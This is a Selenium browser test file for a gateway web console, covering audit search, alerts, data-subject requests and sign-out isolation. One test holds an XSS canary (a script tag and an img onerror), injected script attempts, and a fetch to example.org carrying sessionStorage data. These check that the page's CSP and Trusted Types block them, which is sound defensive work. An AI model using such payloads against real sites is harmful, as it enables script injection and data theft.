"""The web console in a real browser: headless Chromium (Debian's `chromium` and
`chromium-driver`) driven by Selenium against `gateway demo` (embedded PostgreSQL, demo
backends), signing in with the tokens the demo prints.

Skipped, with the reason, where Chromium or its driver is not installed (.ci/run installs
both). A failing test leaves a screenshot (failure.png) in its pytest tmp dir; every test
also saves the screens it checked there.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import queue
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
import zipfile
from pathlib import Path

import pytest

from .conftest import REPORTS, free_port
from .test_policy_roles import AUDITOR, AUDITOR_LINES, add_roles

pytestmark = pytest.mark.browser

CHROMIUM = shutil.which("chromium")
CHROMEDRIVER = shutil.which("chromedriver")
try:
    from selenium import webdriver
    from selenium.common.exceptions import JavascriptException, StaleElementReferenceException
    from selenium.webdriver.chrome.options import Options
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select, WebDriverWait
except ImportError:          # pragma: no cover - the test extra installs it
    webdriver = None

CANARY = '<script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 2">'


@pytest.fixture(scope="module")
def chromium():
    missing = [what for what, found in (("chromium", CHROMIUM), ("chromedriver", CHROMEDRIVER),
                                        ("selenium", webdriver)) if not found]
    if missing:
        pytest.skip(f"browser tests need {', '.join(missing)}: apt-get install chromium "
                    "chromium-driver; pip install -e '.[test]'")


class Demo:
    """`gateway demo` as a process: its console URL and the token it printed per role."""

    def __init__(self, base: str, tokens: dict[str, str]):
        self.base, self.tokens = base, tokens

    def call(self, method: str, path: str, role: str | None = None, body=None,
             token: str | None = None, headers: dict | None = None) -> tuple[int, bytes]:
        headers = dict(headers or {})
        token = token or (self.tokens[role] if role else None)
        if token:
            headers["Authorization"] = f"Bearer {token}"
        data = None
        if body is not None:
            data, headers["Content-Type"] = json.dumps(body).encode(), "application/json"
        req = urllib.request.Request(self.base + path, data=data, method=method, headers=headers)
        try:
            with urllib.request.urlopen(req, timeout=30) as r:
                return r.status, r.read()
        except urllib.error.HTTPError as e:
            return e.code, e.read()


@contextlib.contextmanager
def run_demo(data_dir: Path, **env_extra: str):
    """The README's demo command on a free port, with a data dir of its own."""
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("GATEWAY_")}
    env["GATEWAY_DATA_DIR"] = str(data_dir)
    env.update(env_extra)
    proc = subprocess.Popen([sys.executable, "-m", "gateway", "demo", "--port", str(port)],
                            env=env, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    lines: queue.Queue[str] = queue.Queue()
    threading.Thread(target=lambda: [lines.put(x) for x in proc.stdout], daemon=True).start()
    printed = []
    try:
        deadline = time.monotonic() + 90
        while not printed or "Ctrl-C" not in printed[-1]:
            printed.append(lines.get(timeout=max(0.1, deadline - time.monotonic())))
        text = "".join(printed)
        (url,) = re.findall(r"open (http://\S+/console/) and paste", text)
        tokens = dict(re.findall(r"^  (provider_staff|partner|euo_admin|user) +\S+ +(\S+)$", text,
                                 re.M))
        assert set(tokens) == {"provider_staff", "partner", "euo_admin", "user"}, text
        yield Demo(url.removesuffix("/console/"), tokens)
    finally:
        proc.send_signal(signal.SIGINT)
        try:
            proc.wait(30)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


@pytest.fixture(scope="module")
def demo(chromium, tmp_path_factory):
    # rows evaluated for alerts 5 + 2 + 0.5 s after their request, not 37 s
    with run_demo(tmp_path_factory.mktemp("demo"), GATEWAY_BACKEND_DEADLINE_S="5",
                  GATEWAY_ALERT_SETTLE_S="0.5") as running:
        yield running


@pytest.fixture
def browser(request, chromium, tmp_path):
    options = Options()
    options.binary_location = CHROMIUM
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
                "--window-size=1400,1000", "--lang=en-GB"):
        options.add_argument(arg)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    options.add_experimental_option("prefs", {"download.default_directory": str(downloads),
                                              "download.prompt_for_download": False})
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    driver.downloads = downloads
    driver.shots = tmp_path
    try:
        yield driver
    finally:
        call = request.node.stash.get(REPORTS, {}).get("call")
        if call is None or call.failed:
            driver.save_screenshot(str(tmp_path / "failure.png"))
            print(f"screenshot of the failure: {tmp_path / 'failure.png'}")
        driver.quit()


# --- helpers ----------------------------------------------------------------------------------

def wait(driver, condition, timeout: float = 15, what: str = ""):
    # a table redrawn while it is read leaves stale elements: read it again
    return WebDriverWait(driver, timeout, poll_frequency=0.05,
                         ignored_exceptions=(StaleElementReferenceException,)).until(
        lambda d: condition(d), message=what)


def by_id(driver, id_: str):
    return driver.find_element(By.ID, id_)


def sign_in(driver, demo: Demo, role: str) -> None:
    driver.get(demo.base + "/console/")
    by_id(driver, "token").send_keys(demo.tokens[role])
    by_id(driver, "sign-in").click()
    wait(driver, lambda d: by_id(d, "who").is_displayed(), what=f"{role} signed in")


def settled(driver, status_id: str) -> str:
    """The text of a status line once its view has finished loading."""
    return wait(driver, lambda d: (t := by_id(d, status_id).text) and "Loading" not in t and t,
                what=f"{status_id} settled")


def table_rows(driver, table_id: str) -> list[list[str]]:
    return [[td.text for td in tr.find_elements(By.TAG_NAME, "td")]
            for tr in driver.find_elements(By.CSS_SELECTOR, f"#{table_id} tbody tr")]


def downloaded(driver, name: str) -> Path:
    path = driver.downloads / name
    wait(driver, lambda d: path.exists() and not any(d.downloads.glob("*.crdownload")),
         what=f"{name} downloaded")
    return path


def problems(driver) -> list[str]:
    """The browser log's errors (the console's own use must leave none)."""
    return [e["message"] for e in driver.get_log("browser") if e["level"] == "SEVERE"]


def shot(driver, name: str) -> None:
    driver.save_screenshot(str(driver.shots / f"{name}.png"))


# What the page holds the moment the next person's views open (the who line shown, their
# first queries sent but none answered yet): a MutationObserver's callback runs in the same
# task as the sign-in that showed the who line, before any network answer can be handled.
SNAPSHOT_AT_SIGN_IN = """
const who = document.getElementById("who");
window.__atSignIn = null;
new MutationObserver((changes, observer) => {
  if (who.hidden) return;
  observer.disconnect();
  const rows = (id) => document.querySelectorAll(`#${id} tbody tr`).length;
  window.__atSignIn = {
    text: document.body.textContent,
    values: [...document.querySelectorAll("input, textarea")].map((e) => e.value).filter(Boolean),
    rows: {audit: rows("audit-table"), requests: rows("requests-table"),
           access: rows("access-table"), my_requests: rows("my-requests")},
    chart: document.getElementById("chart").childElementCount,
    detail: document.getElementById("detail-fields").childElementCount,
    verify: document.getElementById("verify-status").textContent,
  };
}).observe(who, {attributes: true, attributeFilter: ["hidden"]});
"""


def sign_out_then_in(driver, demo: Demo, role: str) -> dict:
    """Sign out, then sign `role` in in the same tab, as a person would (the test loads no
    page itself); returns what the page held when `role`'s views opened (SNAPSHOT_AT_SIGN_IN)."""
    by_id(driver, "sign-out").click()
    wait(driver, lambda d: d.execute_script("return document.readyState") == "complete"
         and by_id(d, "signin").is_displayed() and not by_id(d, "who").is_displayed(),
         what="signed out")
    driver.execute_script(SNAPSHOT_AT_SIGN_IN)
    by_id(driver, "token").send_keys(demo.tokens[role])
    by_id(driver, "sign-in").click()
    return wait(driver, lambda d: d.execute_script("return window.__atSignIn"),
                what=f"{role} signed in")


# --- the tests --------------------------------------------------------------------------------

def test_staff_answer_who_saw_alices_voicemails_this_week(browser, demo):
    assert demo.call("GET", "/telephony/euos/euo-acme/users/u-alice/voicemails",
                     "provider_staff")[0] == 403
    assert demo.call("GET", "/telephony/euos/euo-acme/users/u-alice/voicemails", "user")[0] == 200
    assert demo.call("GET", "/telephony/euos/euo-acme/users/u-bob/recordings", "euo_admin")[0] == 200

    sign_in(browser, demo, "provider_staff")
    assert by_id(browser, "audit").is_displayed() and by_id(browser, "tab-requests").is_displayed()
    assert not by_id(browser, "tab-mydata").is_displayed()
    by_id(browser, "f-subject-user").send_keys("u-alice")
    by_id(browser, "f-dataset").send_keys("voicemails")
    by_id(browser, "range-week").click()              # "this week" searches at once
    wait(browser, lambda d: "on this page" in by_id(d, "audit-status").text, what="rows")
    rows = wait(browser, lambda d: table_rows(d, "audit-table"), what="rows")
    # who saw them: u-alice herself (the policy gives voicemails to no one else) — her reads,
    # and her export if another test of this module made one (it serves every data set)
    assert rows and all((r[1], r[3], r[5]) == ("user · euo-acme · u-alice", "euo-acme / u-alice",
                                               "allow 200") for r in rows), rows
    assert rows[0][4] == "voicemails", rows          # newest first: this test's own read
    browser.find_element(By.CSS_SELECTOR, "#audit-table tbody tr").click()
    detail = {dd.get_attribute("data-field"): dd.text
              for dd in browser.find_elements(By.CSS_SELECTOR, "#detail-fields dd")}
    assert detail["data_sets"] == "voicemails" and detail["subject_users"] == "u-alice"
    assert re.fullmatch(r"[0-9a-f]{8,}", detail["policy_version"]), detail
    assert {"fields_removed", "reason", "request_id", "route"} <= set(detail)
    voicemail_rows = len(rows)

    # who tried: a refusal served no data set, so it shows without the data-set filter
    by_id(browser, "f-dataset").clear()
    Select(by_id(browser, "f-decision")).select_by_value("deny")
    by_id(browser, "audit-search").click()
    wait(browser, lambda d: any(r[1] == "provider staff · Provider · staff-sam" and "voicemails" in r[2]
                                and r[5] == "deny 403" and r[6] == "dataset_not_permitted"
                                for r in table_rows(d, "audit-table")), what="the refused attempt")

    rows = wait(browser, lambda d: table_rows(d, "audit-table"), what="rows")
    # the chart follows the filter: staff's refusals, not the user's own reads
    wait(browser, lambda d: d.find_elements(By.CSS_SELECTOR, "#chart rect"), what="chart bars")
    roles = {r.get_attribute("data-role") for r in browser.find_elements(By.CSS_SELECTOR, "#chart rect")}
    assert "provider_staff" in roles and "user" not in roles, roles

    by_id(browser, "verify").click()
    wait(browser, lambda d: "Intact" in by_id(d, "verify-status").text, what="chains verified")
    shot(browser, "staff-audit")

    by_id(browser, "download-csv").click()
    table = list(csv.DictReader(io.StringIO(downloaded(browser, "audit.csv").read_text())))
    assert len(table) == len(rows) >= 1
    assert all("u-alice" in r["subject_users"] and r["decision"] == "deny" for r in table)
    by_id(browser, "download-ndjson").click()
    lines = downloaded(browser, "audit.ndjson").read_text().splitlines()
    assert [json.loads(x)["request_id"] for x in lines] == [r["request_id"] for r in table]
    assert voicemail_rows >= 1 and problems(browser) == []

    # the console's own queries are audited like any other use of the API
    status, body = demo.call("GET", "/v1/audit?actor=staff-sam&limit=1000", "provider_staff")
    routes = {r["route"] for r in json.loads(body)["rows"]}
    assert {"gateway:/v1/catalog", "gateway:/v1/audit", "gateway:/v1/audit/per-day",
            "gateway:/v1/audit/verify"} <= routes


def test_a_partner_and_an_euo_admin_see_only_their_scope(browser, demo):
    assert demo.call("GET", "/telephony/euos/euo-acme/cdrs", "partner")[0] == 200
    assert demo.call("GET", "/telephony/euos/euo-initech", "provider_staff")[0] == 200
    sign_in(browser, demo, "partner")
    assert by_id(browser, "tab-requests").is_displayed() and not by_id(browser, "tab-mydata").is_displayed()
    by_id(browser, "f-euo").send_keys("euo-acme")
    by_id(browser, "audit-search").click()
    wait(browser, lambda d: "on this page" in by_id(d, "audit-status").text, what="rows")
    rows = wait(browser, lambda d: table_rows(d, "audit-table"), what="rows")
    assert any(r[1] == "partner · p-northwind · pat@northwind" and "call_history" in r[4]
               for r in rows), rows
    # actors of other organisations by role and organisation only
    assert all("staff-sam" not in r[1] for r in rows), rows
    by_id(browser, "f-euo").clear()
    by_id(browser, "f-euo").send_keys("euo-initech")        # another partner's EUO
    by_id(browser, "audit-search").click()
    assert settled(browser, "audit-status") == "No row matches these filters."
    assert "chain" in by_id(browser, "verify-status").text and not by_id(browser, "verify").is_displayed()
    shot(browser, "partner-audit")

    by_id(browser, "sign-out").click()
    sign_in(browser, demo, "euo_admin")
    by_id(browser, "audit-search").click()
    wait(browser, lambda d: "on this page" in by_id(d, "audit-status").text, what="rows")
    rows = wait(browser, lambda d: table_rows(d, "audit-table"), what="rows")
    assert all(r[3] == "" or r[3].startswith("euo-acme") for r in rows), rows
    by_id(browser, "f-euo").send_keys("euo-globex")
    by_id(browser, "audit-search").click()
    assert settled(browser, "audit-status") == "No row matches these filters."
    assert problems(browser) == []


def test_an_euo_admin_downloads_this_months_report_and_it_renders_with_its_charts(browser, demo):
    assert demo.call("GET", "/telephony/euos/euo-acme/users/u-alice", "euo_admin")[0] == 200
    sign_in(browser, demo, "euo_admin")
    by_id(browser, "download-report").click()
    month = time.strftime("%Y-%m", time.gmtime())
    report = downloaded(browser, f"report-{month}.html")
    wait(browser, lambda d: "saved" in by_id(d, "download-status").text, what="report saved")
    browser.get(report.as_uri())
    assert browser.find_element(By.TAG_NAME, "h1").text == f"Access report, {month}"
    assert "EUO euo-acme" in browser.find_element(By.TAG_NAME, "body").text
    assert len(browser.find_elements(By.CSS_SELECTOR, "figure svg rect")) >= 1


def test_staff_see_an_alert_open_the_rows_that_tripped_it_and_acknowledge_it(browser, demo):
    """A refusal burst (21 refusals of one account in a minute: u-alice asking for a
    colleague's voicemails, which no other test's view counts) raises an alert; the Alerts
    view lists it, opens its audit rows in the explorer, and takes a note."""
    for _ in range(21):
        assert demo.call("GET", "/telephony/euos/euo-acme/users/u-bob/voicemails", "user")[0] == 403
    sign_in(browser, demo, "provider_staff")
    by_id(browser, "tab-alerts").click()
    last = [0.0]

    def raised(d):
        if time.monotonic() - last[0] > 1:        # the evaluator settles rows for ~8 s
            last[0] = time.monotonic()
            by_id(d, "al-refresh").click()
        return [r for r in table_rows(d, "alerts-table")
                if r[1] == "refusal_burst" and "u-alice" in r[2]]
    row, = wait(browser, raised, timeout=60, what="the refusal burst's alert")
    assert int(row[4]) > 20 and row[5] == "20"
    burst = ("//table[@id='alerts-table']//tr[td[2]='refusal_burst' and "
             "td[3][contains(., 'u-alice')]]")

    def clicked(d, inside: str) -> bool:         # again if a refresh redrew the table
        d.find_element(By.XPATH, burst + inside).click()
        return True
    wait(browser, lambda d: clicked(d, "//button[contains(., 'audit explorer')]"),
         what="the alert's rows opened")
    wait(browser, lambda d: by_id(d, "audit").is_displayed(), what="the audit explorer")
    assert by_id(browser, "f-actor").get_attribute("value") == "u-alice"
    assert by_id(browser, "f-decision").get_attribute("value") == "deny"
    rows = wait(browser, lambda d: table_rows(d, "audit-table"), what="the alert's rows")
    assert len(rows) >= 21 and all("u-alice" in r[1] for r in rows), rows

    by_id(browser, "tab-alerts").click()
    wait(browser, lambda d: d.find_element(By.XPATH, burst).is_displayed() and
         "Loading" not in by_id(d, "alerts-status").text, what="the alert again")
    browser.find_element(By.XPATH, burst + "//input").send_keys("a portal bug, fixed in 4.2")
    browser.find_element(By.XPATH, burst + "//button[.='Acknowledge']").click()
    wait(browser, lambda d: "Acknowledged" in by_id(d, "alerts-status").text, what="acknowledged")
    Select(by_id(browser, "al-acked")).select_by_value("true")
    acked = wait(browser, lambda d: [r for r in table_rows(d, "alerts-table")
                                     if "a portal bug, fixed in 4.2" in r[8]], what="the note")
    assert "staff-sam" in acked[0][8]
    assert problems(browser) == []


def test_a_user_sees_who_accessed_their_data_downloads_it_and_files_a_request(browser, demo):
    assert demo.call("GET", "/telephony/euos/euo-acme/users/u-alice", "provider_staff")[0] == 200
    ticket = f"INC-{time.monotonic_ns()}"
    assert demo.call("POST", "/v1/break-glass", "provider_staff", body={
        "euo": "euo-acme", "user": "u-alice", "purpose": "organizer locked out",
        "ticket": ticket, "minutes": 5})[0] == 201
    assert demo.call("PATCH", "/meeting/accounts/euo-acme/organizers/u-alice", "provider_staff",
                     body={"language": "en"})[0] == 200
    sign_in(browser, demo, "user")
    assert by_id(browser, "mydata").is_displayed()
    assert not by_id(browser, "tab-audit").is_displayed()
    assert not by_id(browser, "tab-requests").is_displayed()
    rows = wait(browser, lambda d: table_rows(d, "access-table"), what="access log")
    # in words: who, what happened, which of her data as the Provider's table names it
    assert any(r[1] == "provider staff" and r[2] == "Provider" and r[3].startswith("saw")
               and "your first and last name" in r[4] for r in rows), rows
    assert any(r[1] == "provider staff" and r[3].startswith("changed") for r in rows), rows
    assert not any("user_name" in r[4] or "telephony:" in r[3] for r in rows), rows
    # the raw fields one click away
    browser.find_element(By.CSS_SELECTOR, "#access-table tbody tr details summary").click()
    raw = browser.find_element(By.CSS_SELECTOR, "#access-table tbody tr details code").text
    assert re.search(r"(GET|PATCH|PUT|POST|DELETE) · (telephony|meeting):/", raw), raw
    # her own requests (the console's included) are not in her access log
    assert all(r[1] != "user" for r in rows), rows
    # emergency access is shown as such, with its purpose and ticket
    assert any(r[1] == "provider staff" and r[6] == f"break-glass: organizer locked out (ticket {ticket})"
               for r in rows), rows

    by_id(browser, "export").click()
    archive = downloaded(browser, "export.zip")
    wait(browser, lambda d: "saved" in by_id(d, "export-status").text, what="export saved")
    with zipfile.ZipFile(archive) as z:
        names = z.namelist()
        assert "export.json" in names and any(n.endswith(".wav") for n in names), names
        assert z.testzip() is None

    Select(by_id(browser, "r-type")).select_by_value("rectification")
    Select(by_id(browser, "r-datasets")).select_by_value("user_address")
    by_id(browser, "r-detail").send_keys("My street is spelled wrong.")
    by_id(browser, "r-file").click()
    wait(browser, lambda d: "Request filed" in by_id(d, "request-status").text, what="request filed")
    wait(browser, lambda d: any(r[1] == "rectification" and r[2] == "user_address"
                                for r in table_rows(d, "my-requests")), what="request listed")
    mine = [r for r in table_rows(browser, "my-requests") if r[2] == "user_address"]
    assert mine[0][3] == "open" and mine[0][4], mine
    shot(browser, "user-mydata")
    assert problems(browser) == []


def test_an_admin_answers_a_request_whose_script_canary_renders_as_text(browser, demo):
    status, body = demo.call("POST", "/v1/me/requests", "user",
                             body={"type": "objection", "data_sets": ["user_mobile"],
                                   "detail": CANARY})
    assert status == 201, body
    request_id = json.loads(body)["id"]
    sign_in(browser, demo, "euo_admin")
    by_id(browser, "tab-requests").click()
    row = wait(browser, lambda d: d.find_elements(By.CSS_SELECTOR, f'tr[data-id="{request_id}"]'),
               what="the request listed")[0]
    assert row.find_element(By.CSS_SELECTOR, "td.free-text").text == CANARY
    assert row.find_elements(By.TAG_NAME, "img") == [] and row.find_elements(By.TAG_NAME, "script") == []
    assert browser.execute_script("return window.__pwned") is None
    shot(browser, "admin-requests")

    row.find_element(By.CSS_SELECTOR, "td.answer input").send_keys("stopped the SMS campaign")
    row.find_element(By.CSS_SELECTOR, 'button[data-status="accepted"]').click()
    wait(browser, lambda d: "is now accepted" in by_id(d, "requests-status").text, what="accepted")
    Select(by_id(browser, "q-status")).select_by_value("accepted")
    wait(browser, lambda d: d.find_elements(By.CSS_SELECTOR, f'tr[data-id="{request_id}"] td.state'))
    assert browser.find_element(By.CSS_SELECTOR, f'tr[data-id="{request_id}"] td.state').text == "accepted"
    assert problems(browser) == []

    # injected markup and script are refused by the page's policy, and the browser says so
    for attempt in (
            "document.body.innerHTML = arguments[0]",
            "const s = document.createElement('script'); s.text = 'window.__pwned = 3';"
            " document.body.append(s)",
            "const s = document.createElement('script');"
            " s.append(document.createTextNode('window.__pwned = 4')); document.body.append(s)"):
        with contextlib.suppress(JavascriptException):
            browser.execute_script(attempt, CANARY)
    browser.execute_script("fetch('https://example.org/?t=' + sessionStorage.length).catch(() => 0)")
    log = wait(browser, lambda d: problems(d) or None, what="violations logged")
    log += problems(browser)
    assert browser.execute_script("return window.__pwned") is None
    assert any("requires 'TrustedHTML' assignment" in m for m in log), log
    assert any("requires 'TrustedScript' assignment" in m for m in log), log
    wait(browser, lambda d: any("connect-src 'self'" in m for m in log + problems(d)) or None,
         what="the third-party fetch refused")



def test_after_staff_sign_out_a_partner_in_the_same_tab_sees_nothing_of_staffs(browser, demo):
    """Provider staff search the audit explorer (rows with their own id), check the chains and
    list the requests, then sign out; a partner signing in in the same tab finds none of it,
    hidden views included, before doing anything: no staff row or id, no chain check, an
    empty chart, no staff filter, no request row. Then the partner's own views load."""
    marker = f"staff-only-{time.monotonic_ns()}"
    assert demo.call("GET", "/telephony/euos/euo-initech", "provider_staff")[0] == 200
    assert demo.call("POST", "/v1/me/requests", "user", body={
        "type": "objection", "data_sets": ["user_mobile"], "detail": marker})[0] == 201
    sign_in(browser, demo, "provider_staff")
    by_id(browser, "f-actor").send_keys("staff-sam")
    by_id(browser, "audit-search").click()
    wait(browser, lambda d: any(r[1] == "provider staff · Provider · staff-sam"
                                for r in table_rows(d, "audit-table")), what="staff rows")
    browser.find_element(By.CSS_SELECTOR, "#audit-table tbody tr").click()
    wait(browser, lambda d: d.find_elements(By.CSS_SELECTOR, "#chart rect"), what="chart bars")
    by_id(browser, "verify").click()
    wait(browser, lambda d: "Intact" in by_id(d, "verify-status").text, what="chains verified")
    by_id(browser, "tab-requests").click()
    wait(browser, lambda d: any(marker in r[5] for r in table_rows(d, "requests-table")),
         what="staff's request list")

    left = sign_out_then_in(browser, demo, "partner")
    assert by_id(browser, "who-text").text.startswith("pat@northwind")
    assert "staff-sam" not in left["text"] and "staff-sam" not in left["values"], left
    assert marker not in left["text"] and "Intact" not in left["text"], left
    assert left["rows"] == {"audit": 0, "requests": 0, "access": 0, "my_requests": 0}, left
    assert left["chart"] == 0 and left["detail"] == 0, left
    assert "chain" in left["verify"] and not by_id(browser, "verify").is_displayed(), left
    assert left["values"] == [], left

    # the partner's own audit explorer then loads, unfiltered and in the partner's scope
    settled(browser, "audit-status")
    settled(browser, "chart-status")
    assert all("staff-sam" not in r[1] for r in table_rows(browser, "audit-table"))
    assert "staff-sam" not in browser.execute_script("return document.body.textContent")
    assert not by_id(browser, "audit-detail").is_displayed()
    shot(browser, "partner-after-staff")
    assert problems(browser) == []


def test_after_a_user_signs_out_the_next_person_sees_nothing_of_her_data(browser, demo):
    """A user's access log, her requests, what she was told and the draft she had not sent
    are gone when she signs out: provider staff signing in in the same tab hold none of it."""
    marker = f"alice-only-{time.monotonic_ns()}"
    assert demo.call("GET", "/telephony/euos/euo-acme/users/u-alice", "provider_staff")[0] == 200
    sign_in(browser, demo, "user")
    wait(browser, lambda d: table_rows(d, "access-table"), what="access log")
    Select(by_id(browser, "r-datasets")).select_by_value("user_mobile")
    by_id(browser, "r-detail").send_keys(marker)
    by_id(browser, "r-file").click()
    wait(browser, lambda d: "Request filed" in by_id(d, "request-status").text, what="request filed")
    wait(browser, lambda d: table_rows(d, "my-requests"), what="her requests")
    by_id(browser, "r-detail").send_keys(f"draft {marker}")

    left = sign_out_then_in(browser, demo, "provider_staff")
    assert by_id(browser, "who-text").text.startswith("staff-sam")
    assert marker not in left["text"] and "Request filed" not in left["text"], left
    assert left["rows"]["access"] == 0 and left["rows"]["my_requests"] == 0, left
    assert left["values"] == [], left
    assert not by_id(browser, "mydata").is_displayed()
    assert problems(browser) == []


def test_a_token_refused_mid_session_signs_the_tab_out_and_says_why(browser, demo):
    """A 401 for any of the console's queries (here the token in the tab no longer verifies)
    signs out the same way: the page is loaded anew, empty, and the refusal is shown."""
    sign_in(browser, demo, "provider_staff")
    wait(browser, lambda d: table_rows(d, "audit-table"), what="staff rows")
    browser.execute_script("const k = 'gateway-console-token', t = sessionStorage.getItem(k);"
                           " sessionStorage.setItem(k, t.slice(0, -6) + (t.endsWith('AAAAAA')"
                           " ? 'BBBBBB' : 'AAAAAA'))")
    by_id(browser, "audit-search").click()
    wait(browser, lambda d: d.execute_script("return document.readyState") == "complete"
         and by_id(d, "signin").is_displayed(), what="signed out")
    assert by_id(browser, "signin-error").text.startswith("bad_signature: "), \
        by_id(browser, "signin-error").text
    assert table_rows(browser, "audit-table") == [] and not by_id(browser, "who").is_displayed()
    assert browser.execute_script("return sessionStorage.length") == 0
    browser.refresh()                              # said once, not on every later load
    wait(browser, lambda d: d.execute_script("return document.readyState") == "complete",
         what="reloaded")
    assert by_id(browser, "signin-error").text == ""


def test_a_role_added_to_the_policy_signs_in_and_gets_the_views_its_groups_allow(
        browser, chromium, tmp_path_factory):
    """A role that exists only in roles.yaml and policy.csv (the Provider's auditors: audit and
    chain checks, no requests, not a data subject): the console knows it from /v1/catalog,
    names it and its organisation, opens the audit explorer with the chain check, and hides
    what its groups do not give it."""
    policies = tmp_path_factory.mktemp("auditor") / "policies"
    shutil.copytree(Path(__file__).parent.parent / "policies", policies)
    add_roles(policies, AUDITOR.replace("description:", "label: internal auditor\n    description:"),
              AUDITOR_LINES)
    data_dir = tmp_path_factory.mktemp("auditor-demo")
    with run_demo(data_dir, GATEWAY_POLICY_DIR=str(policies)) as running:
        env = {k: v for k, v in os.environ.items() if not k.startswith("GATEWAY_")}
        env.update(GATEWAY_DATA_DIR=str(data_dir), GATEWAY_POLICY_DIR=str(policies))
        running.tokens["auditor"] = subprocess.run(
            [sys.executable, "-m", "gateway", "token", "--role", "auditor", "--sub", "audrey"],
            env=env, check=True, capture_output=True, text=True).stdout.strip()
        assert running.call("GET", "/telephony/euos/euo-acme/users/u-alice", "auditor")[0] == 200
        sign_in(browser, running, "auditor")
        assert by_id(browser, "who-text").text == "audrey · internal auditor · Provider internal audit"
        assert by_id(browser, "tab-audit").is_displayed() and by_id(browser, "audit").is_displayed()
        assert not by_id(browser, "tab-requests").is_displayed()
        assert not by_id(browser, "tab-mydata").is_displayed()
        assert by_id(browser, "verify").is_displayed()
        rows = wait(browser, lambda d: table_rows(d, "audit-table"), what="audit rows")
        assert any(r[1] == "internal auditor · Provider internal audit · audrey" for r in rows), rows
        legend = wait(browser, lambda d: d.find_elements(By.CSS_SELECTOR, "#chart ul.legend li"),
                      what="chart legend")
        assert "internal auditor" in [li.text for li in legend]
        shot(browser, "auditor")
        assert problems(browser) == []
